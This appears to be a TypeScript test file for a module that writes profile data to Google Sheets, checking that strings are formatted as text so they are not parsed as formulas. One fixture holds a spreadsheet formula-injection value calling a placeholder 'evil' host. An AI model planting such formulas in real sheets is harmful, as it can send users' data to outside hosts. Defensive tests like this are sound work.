import {
  AUTOMATIC_FORMAT,
  CELL_TEXT_LIMIT,
  TEXT_FORMAT,
  capText,
  columnFormat,
  planWrite,
  type CellValue,
} from '../../src/core/cells';
import type { KindName } from '../../src/core/fields/catalog';
import { RESEARCH_COLUMNS } from '../../src/core/fields/defaults';
import { collectionColumns, flattenCollection, flattenRows } from '../../src/core/fields/flatten';
import { modernProfile } from './fields/samples';

const columns = (...kinds: KindName[]) => kinds.map((kind) => ({ kind }));

/** The invariant a plan keeps: no non-blank string lands in a column not formatted as text, where Sheets parses it. */
function isSafeToWrite(formats: readonly string[], rows: readonly (readonly CellValue[])[]): boolean {
  return rows.every((row) =>
    row.every((value, index) => typeof value !== 'string' || value === '' || formats[index] === TEXT_FORMAT),
  );
}

describe('capText', () => {
  it('keeps text that fits', () => {
    const fits = 'y'.repeat(CELL_TEXT_LIMIT);
    expect(capText(fits)).toBe(fits);
    expect(capText('')).toBe('');
  });

  it('cuts longer text to the limit, ending with how much was cut', () => {
    const capped = capText('x'.repeat(60_000));
    expect(capped.length).toBe(CELL_TEXT_LIMIT);
    const kept = capped.indexOf('…');
    expect(capped.slice(kept)).toBe(`… [truncated ${(60_000 - kept).toLocaleString('en-US')} characters]`);
  });

  it('never splits a surrogate pair', () => {
    const capped = capText('😀'.repeat(40_000));
    expect(capped.length).toBeLessThanOrEqual(CELL_TEXT_LIMIT);
    const body = capped.slice(0, capped.indexOf('…'));
    expect(body.length % 2).toBe(0);
    expect(body).toBe('😀'.repeat(body.length / 2));
  });
});

describe('column formats', () => {
  it('formats text-like columns as plain text and numbers and booleans as Automatic', () => {
    const textLike: KindName[] = ['text', 'url', 'isoDate', 'textList', 'object', 'list', 'map', 'unknown'];
    for (const kind of textLike) expect(columnFormat(kind)).toBe(TEXT_FORMAT);
    expect(columnFormat('number')).toBe(AUTOMATIC_FORMAT);
    expect(columnFormat('boolean')).toBe(AUTOMATIC_FORMAT);
  });
});

describe('planWrite', () => {
  it('writes text that Sheets would parse into text columns', () => {
    const rows: CellValue[][] = [
      ['=IMPORTXML("http://evil.example")', '+14155550100', '1-10', '00501', 'TRUE', 500, true],
    ];
    const plan = planWrite(columns('text', 'text', 'text', 'isoDate', 'text', 'number', 'boolean'), rows);
    expect(plan.formats).toEqual([
      TEXT_FORMAT,
      TEXT_FORMAT,
      TEXT_FORMAT,
      TEXT_FORMAT,
      TEXT_FORMAT,
      AUTOMATIC_FORMAT,
      AUTOMATIC_FORMAT,
    ]);
    expect(plan.rows).toEqual(rows);
    expect(isSafeToWrite(plan.formats, plan.rows)).toBe(true);
  });

  it('turns a number column holding a string into a text column, its numbers written as text', () => {
    const plan = planWrite(columns('number', 'boolean', 'number'), [
      [500, true, 1],
      ['=1+1', false, ''],
      ['', 'yes', 2],
    ]);
    expect(plan.formats).toEqual([TEXT_FORMAT, TEXT_FORMAT, AUTOMATIC_FORMAT]);
    expect(plan.rows).toEqual([
      ['500', 'TRUE', 1],
      ['=1+1', 'FALSE', ''],
      ['', 'yes', 2],
    ]);
    expect(isSafeToWrite(plan.formats, plan.rows)).toBe(true);
  });

  it('writes numbers and booleans found in text columns as their text', () => {
    expect(planWrite(columns('text', 'unknown'), [[42, false]]).rows).toEqual([['42', 'FALSE']]);
  });

  it('plans flattened research rows and companion rows safely', () => {
    const profiles = [modernProfile, { ...modernProfile, id: 'p-2', connections_count: '500+' } as never];
    const data = flattenRows(profiles, RESEARCH_COLUMNS.all, { headers: false });
    const plan = planWrite(RESEARCH_COLUMNS.all, data);
    expect(isSafeToWrite(plan.formats, plan.rows)).toBe(true);
    const column = (name: string) => RESEARCH_COLUMNS.all.findIndex((field) => field.name === name);
    expect(plan.formats[column('summary')]).toBe(TEXT_FORMAT);
    expect(plan.formats[column('followers_count')]).toBe(AUTOMATIC_FORMAT);
    expect(plan.formats[column('connections_count')]).toBe(TEXT_FORMAT);
    expect(plan.rows[0][column('connections_count')]).toBe('500');

    const experience = planWrite(collectionColumns('experience'), flattenCollection(modernProfile, 'experience'));
    expect(isSafeToWrite(experience.formats, experience.rows)).toBe(true);
  });
});
